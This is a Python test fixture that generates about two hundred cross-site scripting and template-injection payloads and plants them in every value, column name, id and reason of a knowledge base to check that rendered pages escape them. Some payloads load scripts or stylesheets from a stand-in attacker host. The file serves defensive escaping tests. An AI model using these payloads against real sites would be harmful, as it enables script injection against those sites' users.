"""Two hundred texts that become script where a page forgets to escape, and a knowledge base full of them."""

import itertools
import shutil

import pyarrow as pa

from onoma.kb.database import write_knowledge_base

_CALL = "window.pwned=1"
_HTML = [
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    '<iframe src="javascript:{}"></iframe>',
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    '<a href="javascript:{}">x</a>',
    '<a href="java\tscript:{}">x</a>',
    '<form action="javascript:{}"><button>x</button></form>',
    '<button formaction="javascript:{}">x</button>',
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<math><mi xlink:href="javascript:{}">x</mi></math>',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div hx-get=/jobs hx-trigger=load hx-on::load="{}">',
    '<div data-hx-on:click="{}">',
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<x onclick={} tabindex=1 autofocus onfocus={}>",
    "<img/src/onerror={}>",
    "<%00script>{}</script>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "＜script＞{}＜/script＞",
    "{{{{ self.__init__.__globals__ }}}} {}",
    "{{% for x in [1] %}}{}{{% endfor %}}",
    "${{{}}}",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "'; {}; //",
    "\u202e<script>{}</script>",
]
_BREAKS = ["", '">', "'>", "--></title></textarea></style></script>", '" onmouseover="{}" autofocus x="']


def payloads(n=200):
    """Return n of them: each as it is, and after what ends an attribute, a comment, a script."""
    found = [
        (begin.replace("{}", _CALL) + each.replace("{{", "{").replace("}}", "}").replace("{}", _CALL))
        for begin in _BREAKS
        for each in _HTML
    ]
    return found[:n]


def make_hostile(first_base, path):
    """Make a knowledge base whose values, columns, sources, reasons and ids are all of them payloads."""
    shutil.copyfile(first_base, path)
    bad = payloads()
    with write_knowledge_base(path) as base:
        numbers = [n for (n,) in base.rows("SELECT record FROM memberships ORDER BY record")]
        texts = list(itertools.islice(itertools.cycle(bad), len(numbers)))
        ids = pa.table({"record": numbers, "text": texts, "id": [f"{i} {t}" for i, t in enumerate(texts)]})
        tables = {"bad": ids}
        set_values = (
            "UPDATE records SET surname = text, street = text, id = bad.id FROM bad WHERE record = onoma_record"
        )
        base.change(set_values, None, tables)
        set_ids = "UPDATE memberships m SET id = bad.id, source = 'src ' || text FROM bad WHERE bad.record = m.record"
        base.change(set_ids, None, tables)
        entities = [e for (e,) in base.rows("SELECT entity FROM entities ORDER BY entity")]
        names = pa.table({"entity": entities, "text": [f"{e} {bad[i % len(bad)]}" for i, e in enumerate(entities)]})
        for table in ("entities", "memberships", "changes"):
            sql = f"UPDATE {table} SET entity = names.text FROM names WHERE names.entity = {table}.entity"
            base.change(sql, None, {"names": names})
        base.change("UPDATE entities SET surname = entity, city = entity")
        base.change("UPDATE columns SET name = ? WHERE name = 'street'", [bad[3]])
        base.change('UPDATE fields SET "column" = ?, reason = ? WHERE "column" = \'street\'', [bad[3], bad[5]])
        base.change("UPDATE runs SET command = ?, settings = ?", [bad[0], bad[11]])
        base.change("UPDATE changes SET reason = ?", [bad[4]])
    return path
